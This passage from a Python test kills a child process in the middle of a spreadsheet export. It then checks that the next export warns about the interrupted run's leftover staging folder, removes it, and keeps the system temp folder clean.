        [sys.executable, "-m", "tests.app.export_child", str(workspace.paths.data_dir), snap.id]
        + [str(out / "plan.xlsx")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        env={**os.environ, "TMPDIR": str(system_temp), "TEMP": str(system_temp)},
    ) as child:
        try:
            assert child.stdout is not None and child.stdout.readline() == "streaming\n"
            (folder,) = [p for p in staging.iterdir() if p.suffix == ".tmp"]
            assert [p.name for p in folder.iterdir() if p.name.startswith("openpyxl.")] != []
        finally:
            child.kill()  # SIGKILL: nothing of the child's cleans up
            child.wait()
    assert folder.exists()
    assert list(system_temp.iterdir()) == []  # nothing went to the system's temporary folder
    again = run_cli(
        "export", snap.id, "--xlsx", str(out / "again.xlsx"), data_dir=workspace.paths.data_dir
    )
    assert again.returncode == 0, again.stderr
    assert f"warning: removed {folder}, left by an export that was interrupted" in again.stderr
    assert not folder.exists()
    assert list(staging.iterdir()) == []
    assert sorted(p.name for p in out.iterdir()) == ["again.xlsx"]  # the killed one's part too
